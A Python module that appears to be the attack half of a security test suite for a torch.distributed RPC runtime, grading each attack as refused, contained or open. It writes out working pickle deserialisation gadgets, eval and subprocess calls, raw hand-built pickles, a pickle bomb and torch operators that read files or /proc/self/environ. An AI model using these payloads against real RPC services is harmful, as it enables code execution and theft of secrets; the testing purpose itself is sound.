"""What a hostile peer tries: each function here is one attack, sent with torch's own pickler and raw messages.

An attack succeeds if what comes back holds the victim's secret, or if its mark (a folder in a place where the victim
may write) is there afterwards. The first five are those that need nothing but plain torch.
"""

import functools
import operator
import os
import pickle
import random
import runpy
import subprocess
from dataclasses import dataclass
from pathlib import Path

import torch
import torchvision.io  # noqa: F401  (its operators, which read and write files, can be called once it is loaded)
from torch.distributed import rpc
from torch.distributed.rpc import api, internal, rref_proxy
from torch.distributed.rpc.internal import PythonUDF

from runtime import codec
from runtime.codec import Call
from runtime.scheduler import Turn, TurnKind
from runtime.wire import Hello

SECRET = b"patient 4711 has it"
SECONDS = 10.0
PLAIN = internal._InternalRPCPickler()


@dataclass(frozen=True)
class Target:
    """Whom and what an attack is after.

    Attributes:
        peer: the victim's name.
        secret: a file that the victim's user may read.
        mark: made in the victim's own folder by code that runs in it.
        outside: a file to be written outside every run folder.
    """

    peer: str
    secret: str
    mark: str
    outside: str


class Gadget:
    """Calls ``function(*arguments)`` in whoever unpickles it."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


# Compiled by the attacker alone, each for its own victim: what a victim has compiled itself it may be asked to run.
def scripted_for_server(x: torch.Tensor) -> torch.Tensor:
    return x + 1


def scripted_for_client0(x: torch.Tensor) -> torch.Tensor:
    return x + 1


def raw(target: Target, payload: bytes, tensors=(), is_async=False):
    """Sends bytes as a call."""
    peer = rpc.get_worker_info(target.peer)
    return api._invoke_rpc_python_udf(peer, payload, list(tensors), SECONDS, is_async).wait()


def pickled(target: Target, function, *arguments, is_async=False):
    """Sends a call as plain torch would."""
    return raw(target, *PLAIN.serialize(PythonUDF(function, arguments, {})), is_async=is_async)


def remote(target: Target, function, *arguments):
    """Makes an object at the peer, as ``rpc.remote`` of plain torch would."""
    payload, tensors = PLAIN.serialize(PythonUDF(function, arguments, {}))
    peer = rpc.get_worker_info(target.peer)
    return api._invoke_remote_python_udf(peer, payload, tensors, SECONDS, False)


def message(target: Target, value):
    """Sends a message of Suture's own form."""
    return raw(target, *codec.encode(value))


def operator_call(target: Target, name: str, *arguments, **options):
    """Calls one of torch's built-in operators."""
    peer = rpc.get_worker_info(target.peer)
    return api._invoke_rpc_builtin(peer, name, SECONDS, *arguments, **options).wait()


def function_call(target):
    return pickled(target, eval, f"__import__('os').mkdir({target.mark!r})")


def method_call(target):
    return pickled(target, Path.read_text, Path(target.secret))


def remote_call(target):
    return remote(target, os.mkdir, target.mark).to_here(SECONDS)


def gadget_in_an_argument(target):
    return pickled(target, len, Gadget(os.mkdir, target.mark))


def program_call(target):
    return pickled(target, subprocess.check_output, ["cat", target.secret])


FIRST_FIVE = (function_call, method_call, remote_call, gadget_in_an_argument, program_call)


def getattr_chain(target):
    return pickled(target, operator.methodcaller("read_text"), Path(target.secret))


def reduced_getattr(target):
    return pickled(target, functools.reduce, getattr, ["read_text", "__call__"], Path(target.secret))


def run_a_file(target):
    return pickled(target, runpy.run_path, target.secret)


def reference_fetch(target):
    return remote(target, Path.read_text, Path(target.secret)).to_here(SECONDS)


def reference_method(target):
    return pickled(target, rref_proxy._local_invoke, remote(target, Path, target.secret), "read_text", (), {})


def reference_by_guessed_number(target):
    owner = rpc.get_worker_info(target.peer).id
    fork = (owner, owner, 0, owner, 1, owner, "PyObject")
    return rpc.PyRRef._deserialize(fork).to_here(2.0)


def asynchronous_function(target):
    return pickled(target, os.mkdir, target.mark, is_async=True)


def torchs_wrapped_method(target):
    return pickled(
        target, rref_proxy._local_invoke_async_execution, remote(target, Path, target.mark), "mkdir", (), {}
    )


def hand_written_pickle(target):
    return raw(target, b"cos\nmkdir\n(V" + target.mark.encode() + b"\ntR.")


def pickle_that_sets_attributes(target):
    return raw(target, b"cruntime.endpoints\nfetch\n}V__defaults__\nNsb.")


def pickle_bomb(target):
    return raw(target, pickle.dumps(functools.reduce(lambda inner, _: [inner] * 10, range(60), "x")))


def exception_gadget(target):
    return raw(target, pickle.dumps(internal.RemoteException(target.mark, os.mkdir)))


def deep_nesting(target):
    return raw(target, b"[" * 500_000)


def deep_objects(target):
    return raw(target, b'{"dict":{"a":' * 5_000 + b"1" + b"}}" * 5_000)


def oversized_message(target):
    return raw(target, b'"' + b"a" * 2**24 + b'"')


def many_tensors(target):
    return raw(target, b"null", [torch.zeros(1)] * 10_001)


def random_bytes(target):
    return raw(target, random.Random(0).randbytes(4096))


def empty_message(target):
    return raw(target, b"")


def named_function(target):
    return message(target, Call("builtins.eval", (f"__import__('os').mkdir({target.mark!r})",)))


def named_helper(target):
    return message(target, Call("runtime.endpoints._run", ()))


def dotted_walk(target):
    return message(target, Call("runtime.endpoints.fetch.__globals__", ()))


def message_for_a_call(target):
    return message(target, Turn(TurnKind.TRAIN, "client0", 1, 1))


def fields_of_another_type(target):
    hello = {"Hello": ["client0", {"dict": {"a": [[1]]}}, "8", 2, None]}
    import json

    return raw(target, json.dumps({"call": ["runtime.endpoints.hello", hello]}).encode())


def endpoint_with_other_arguments(target):
    return message(target, Call("runtime.endpoints.hello", (Hello("client0", {}, 1, 1), "client0", "x")))


def take_out_a_member(target):
    worker = rpc.get_worker_info(target.peer)
    return message(
        target, Call("torch.distributed.rpc._utils._update_group_membership", (worker, [], {}, False))
    )


def announce_another(target):
    worker = rpc.WorkerInfo("client7", 7)
    return message(
        target, Call("torch.distributed.rpc._utils._update_group_membership", (worker, [], {}, True))
    )


def scripted_function(target):
    compiled = torch.jit.script(scripted_for_server if target.peer == "server" else scripted_for_client0)
    name = torch._jit_internal._qualified_name(compiled)
    return api._invoke_rpc_torchscript(target.peer, name, (torch.zeros(1),), {}, SECONDS, False).wait()


def operator_reads_a_file(target):
    return operator_call(target, "aten::from_file", target.secret, False, len(SECRET), dtype=torch.uint8)


def operator_writes_a_file(target):
    return operator_call(target, "aten::save", torch.zeros(1), target.outside)


def image_operator_reads_a_file(target):
    return operator_call(target, "image::read_file", target.secret)


def image_operator_writes_a_file(target):
    return operator_call(target, "image::write_file", target.outside, torch.zeros(4, dtype=torch.uint8))


def operator_reads_the_environment(target):
    return operator_call(target, "image::read_file", "/proc/self/environ")


def operator_maps_a_file_for_writing(target):
    return operator_call(target, "aten::from_file", target.outside, True, 16, dtype=torch.uint8)


def operator_reads_the_run_folder(target):
    own = Path(target.mark).parent / "kept.txt"
    return operator_call(target, "aten::from_file", str(own), False, len(SECRET), dtype=torch.uint8)


def operator_left_at_the_peer(target):
    peer = rpc.get_worker_info(target.peer)
    left = api._invoke_remote_builtin(
        peer, "aten::from_file", SECONDS, target.secret, False, len(SECRET), dtype=torch.uint8
    )
    return left.to_here(SECONDS)


def pure_operator(target):
    return operator_call(target, "aten::add", torch.zeros(2), 1)


PEER = FIRST_FIVE + (
    getattr_chain, reduced_getattr, run_a_file, reference_fetch, reference_method, reference_by_guessed_number,
    asynchronous_function, torchs_wrapped_method, hand_written_pickle, pickle_that_sets_attributes, pickle_bomb,
    exception_gadget, deep_nesting, deep_objects, oversized_message, many_tensors, random_bytes, empty_message,
    named_function, named_helper, dotted_walk, message_for_a_call, fields_of_another_type,
    endpoint_with_other_arguments, take_out_a_member, announce_another, scripted_function, operator_reads_a_file,
    operator_writes_a_file, image_operator_reads_a_file, image_operator_writes_a_file,
    operator_reads_the_environment, operator_reads_the_run_folder, operator_maps_a_file_for_writing, operator_left_at_the_peer, pure_operator,
)  # fmt: skip


def gadgets(mark: str) -> dict[str, bytes]:
    """What a hostile server answers a client's call with."""
    return {
        "gadget in an answer": pickle.dumps(Gadget(os.mkdir, mark)),
        "gadget as an exception": pickle.dumps(internal.RemoteException(mark, os.mkdir)),
        "a call as an answer": codec.encode(Call("builtins.eval", ("1",)))[0],
        "an answer of another kind": codec.encode(Turn(TurnKind.END))[0],
        "an endless answer": b"[" * 500_000,
        "escapes in a failure": b'{"failure":"\\\\x41\\\\N{BULLET}\\\\"}',
    }


def outcome(attack, target: Target) -> dict[str, str]:
    """What comes of one attack: refused, contained, or open."""
    before = Path(target.mark).exists() or Path(target.outside).exists()
    assert not before, "a mark of an earlier attack"
    try:
        result = attack(target)
        said, came = "", _bytes_of(result)
    except Exception as error:  # whatever the wall answers
        said, came = f"{type(error).__name__}: {error}", str(error).encode()
    if SECRET in came:
        return {"outcome": "open", "said": "the secret came back"}
    if Path(target.mark).exists() or Path(target.outside).exists():
        return {"outcome": "open", "said": "it ran code or wrote a file"}
    return {"outcome": "refused" if said else "contained", "said": short(said)}


def short(said: str) -> str:
    """An error's text on one line, without torch's own stack."""
    return " ".join(said.split(" At: ")[0].replace("RuntimeError: ", "").split())[:160]


def _bytes_of(result) -> bytes:
    if isinstance(result, torch.Tensor) and result.dtype is torch.uint8:
        return result.numpy().tobytes()
    return result if isinstance(result, bytes) else str(result).encode()
